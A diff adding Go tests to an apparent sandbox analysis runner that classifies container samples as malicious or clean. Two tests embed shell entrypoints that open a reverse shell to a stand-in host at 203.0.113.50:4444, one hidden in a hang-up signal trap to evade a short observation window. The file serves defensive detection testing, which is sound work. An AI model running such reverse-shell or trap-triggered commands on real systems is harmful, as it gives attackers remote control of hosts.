@@ -185,6 +185,25 @@ func TestAnImageThatAsksWithoutEnd(t *testing.T) {
 	}
 }
 
+// TestAGuestThatWasProvedNeedNotGoOn: its time is a minute, and it would use it.
+func TestAGuestThatWasProvedNeedNotGoOn(t *testing.T) {
+	rep := run(t, newRunner(t, nil), "busy", buildSpec(t, shell("actor reverse-shell 203.0.113.50:4444 & while :; do :; done"))).Report
+	if rep.Verdict != report.Malicious || rep.Run.Status != observation.Completed || rep.Run.Coverage.FullWindow || !strings.Contains(rep.Run.Reason, "proof") {
+		t.Errorf("%s, run %+v", rep.Verdict, rep.Run)
+	}
+}
+
+func TestSomeShowWhatTheyAreWhenTheyAreToldToHangUp(t *testing.T) {
+	rep := run(t, newRunner(t, nil), "daemon", buildSpec(t, shell("trap 'exec actor reverse-shell 203.0.113.50:4444' HUP; actor webserver 4000 & wait"))).Report
+	if rep.Verdict != report.Malicious || len(rep.Run.Passes) != 1 {
+		t.Errorf("%s, run %+v", rep.Verdict, rep.Run)
+	}
+	rep = run(t, newRunner(t, nil), "settings", buildSpec(t, shell("trap 'echo ended; exit 3' HUP; actor webserver 4000 & wait"))).Report
+	if rep.Verdict != report.Clean || rep.Run.Exit != nil || rep.Run.Coverage.FullWindow || !strings.Contains(rep.Run.Reason, "hang up") {
+		t.Errorf("%s: %s, run %+v", rep.Verdict, rep.Summary, rep.Run)
+	}
+}
+
 func TestSilentPortsAreTold(t *testing.T) {
 	spec := samples.Spec{Entrypoint: []string{"/bin/actor", "webserver", "8080"}, Ports: []string{"8080/tcp", "9090/tcp"}}
 	c := run(t, newRunner(t, nil), "half", buildSpec(t, spec)).Report.Run.Coverage
